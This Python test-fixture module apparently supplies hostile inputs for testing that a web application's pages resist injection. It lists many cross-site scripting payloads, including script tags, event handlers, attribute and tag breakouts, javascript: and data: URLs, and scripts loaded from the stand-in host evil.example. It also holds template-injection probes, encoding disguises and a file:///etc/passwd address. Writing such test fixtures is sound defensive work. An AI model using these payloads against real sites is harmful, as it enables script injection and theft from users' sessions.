"""Texts that want to be more than text: what has run in somebody's page before, and what could in ours."""

from itertools import islice, product

from tests.width import seeded

RUN = "window.__pwned=1;alert(1)"
BY_HAND = (
    # elements
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe><object data=//evil.example><embed src=//evil.example>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    f"<form action=//evil.example><button formaction=javascript:{RUN}>x</button></form>",
    f"<body onload={RUN}><video><source onerror={RUN}></video><marquee onstart={RUN}>",
    "<template><script>alert(1)</script></template><slot></slot><dialog open>x</dialog>",
    # out of an attribute
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus x='",
    f'" autofocus onfocus={RUN} x=',
    f"x onpointerenter={RUN} ",
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    f"`><img src=x onerror={RUN}>``",
    # out of raw text
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script><style>",
    f"</script><script>{RUN}</script>",
    f"</noscript><img src=x onerror={RUN}></option></select>",
    f"--><script>{RUN}</script><!-- ]]><script>{RUN}</script><![CDATA[",
    "</span></p></div></main><h1>We have moved: call 0900 123</h1>",
    # style, addresses, templates
    "x;background:url(//evil.example/x);--brand:expression(alert(1))}*{display:none",
    f"javascript:{RUN}//",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    "data:text/html,<script>parent.__pwned=1</script>",
    "//evil.example/%2e%2e;@evil.example",
    "{{7*7}}{% raw %}{{config}}{# #}${7*7}#{7*7}<%= 7*7 %>",
    "%(clinic)s %s %d {0} {clinic.__class__.__mro__}",
    # letters that are read as others
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e \u2039img src=x onerror={RUN}\u203a \ufe64svg onload={RUN}\ufe65",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;&#x3c;b&#x3e;",
    f"\\u003cscript\\u003e{RUN}\\x3c/script\\x3e %3Cscript%3E +ADw-script+AD4-",
    f"<\0script>{RUN}</script><img\x0bsrc=x\x0conerror={RUN}>\u2028<svg\u00a0onload={RUN}>\ufeff\u202e",
)  # fmt: skip

_OUT = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "-->",
    "]]>",
    "</svg>",
    "`>",
)
_IN = (
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<script>{RUN}</script>",
    f"<a href=javascript:{RUN} autofocus>x</a>",
    f" onfocus={RUN} autofocus ",
    "<style>@import '//evil.example/x.css'</style><iframe srcdoc='<b>'>",
    f"<math><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<xss contenteditable onbeforeinput={RUN}>",
)  # fmt: skip
_DISGUISE = (
    lambda it: it,
    str.upper,
    str.swapcase,
    lambda it: it.replace(" ", "/"),
    lambda it: it.replace(" ", "\t"),
    lambda it: it.replace("<", "<\0"),
    lambda it: it.replace("<", "&lt;"),
    lambda it: it.replace("=", " =\x0c"),
    lambda it: it.replace(">", ""),
    lambda it: it.replace("<", "<<"),
)
_ADDRESSES = (
    "javascript:",
    "JAVASCRIPT:",
    "java\tscript:",
    " javascript:",
    "data:text/html,",
    "vbscript:",
    "blob:",
)


def hostile(count):
    """`count` of them: those written by hand first, then ways out, ways in and disguises put together."""
    made = [disguise(out + into) for disguise, out, into in product(_DISGUISE, _OUT, _IN)]
    seeded().shuffle(made)
    return list(islice(dict.fromkeys([*BY_HAND, *made]), count))


def addresses():
    """Addresses that no link may lead to."""
    yield from (f"{it}{RUN}" for it in _ADDRESSES)
    yield from (
        "//evil.example",
        "http://evil.example",
        "https://a@evil.example",
        'https://x" onclick="x',
        "https:x",
    )
    yield from (
        "ftp://evil.example",
        "file:///etc/passwd",
        "https://",
        "https://x\\@y",
        "https://x\ty",
        "",
        " ",
    )


def mild(text):
    """A text as long as that, with nothing in it: a page filled with it has the structure the clinic meant."""
    return "".join(it if it.isspace() else "x" for it in text)
